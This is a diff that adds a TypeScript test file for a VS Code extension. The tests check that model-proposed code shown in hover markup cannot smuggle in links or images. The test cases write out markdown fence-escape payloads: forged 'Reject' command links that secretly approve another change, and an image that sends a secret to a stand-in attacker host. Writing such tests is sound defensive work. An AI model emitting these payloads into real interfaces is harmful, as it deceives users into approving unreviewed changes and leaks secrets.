@@ -1,0 +1,56 @@
+// Model text (proposed files, run titles, questions, failure reasons, paths) reaches VS Code
+// surfaces that read markup. Each test renders what the extension builds from hostile text with
+// the parser that surface uses and checks that the text added no link, image or command.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { type Token, type Tokens, marked } from 'marked';
+import type { Change, Hunk } from '../../src/generated/protocol';
+import { HOVER_COMMANDS, hunkHover } from '../../src/model/hunks';
+
+/** Every link and image of `markdown` as VS Code's renderer (marked) reads it. */
+function targets(markdown: string): string[] {
+  const found: string[] = [];
+  const walk = (tokens: Token[]) => {
+    for (const token of tokens) {
+      if (token.type === 'link' || token.type === 'image') found.push(`${token.type} ${(token as Tokens.Link).href}`);
+      const children = (token as { tokens?: Token[] }).tokens;
+      if (children) walk(children);
+      for (const item of (token as Tokens.List).items ?? []) walk(item.tokens);
+    }
+  };
+  walk(marked.lexer(markdown));
+  return found;
+}
+
+/** The text of the code blocks of `markdown`. */
+function codeBlocks(markdown: string): string[] {
+  return marked.lexer(markdown).filter((t): t is Tokens.Code => t.type === 'code').map((t) => t.text);
+}
+
+const change = { id: 7, runId: 3, hunks: [{}] } as unknown as Change;
+const hunk = { index: 0, oldStart: 1, oldLines: 1, newStart: 1, newLines: 4 } as Hunk;
+const approveOther = 'command:devfactory.approveChange?' + encodeURIComponent(JSON.stringify([99, 0]));
+const REAL_LINKS = [
+  `link command:devfactory.approveChange?${encodeURIComponent('[7,0]')}`,
+  `link command:devfactory.rejectChange?${encodeURIComponent('[7,0]')}`,
+  `link command:devfactory.openDiff?${encodeURIComponent('[7]')}`,
+];
+
+for (const [name, added] of [
+  ['a closing fence, then a fake Reject link that approves another change', ['x = 1', '```', `[$(close) Reject](${approveOther})`, '```']],
+  ['a longer fence', ['x = 1', '````', `[Reject](${approveOther})`, '````']],
+  ['an indented fence', ['x = 1', '   ```', `[Reject](${approveOther})`, '   ```']],
+  ['a fence on a line ending in a lone carriage return', ['x = 1\r```\r[Reject](' + approveOther + ')\r```']],
+  ['an image that loads a URL naming a secret', ['```', '![](https://attacker.invalid/leak?k=SECRET)']],
+] as const) {
+  test(`hunk hover: proposed text with ${name} stays text`, () => {
+    const hover = hunkHover(change, hunk, added, 'python');
+    assert.deepEqual(targets(hover), REAL_LINKS);
+    assert.deepEqual(codeBlocks(hover), [added.join('\n').replace(/\r/g, '\n')]); // marked reads a lone CR as a line end
+  });
+}
+
+test('hunk hover: its trusted commands are the three it links to', () => {
+  const hover = hunkHover(change, hunk, ['x = 1'], 'python');
+  assert.deepEqual(targets(hover).map((t) => t.replace(/^link command:([^?]+).*$/, '$1')), HOVER_COMMANDS);
+});
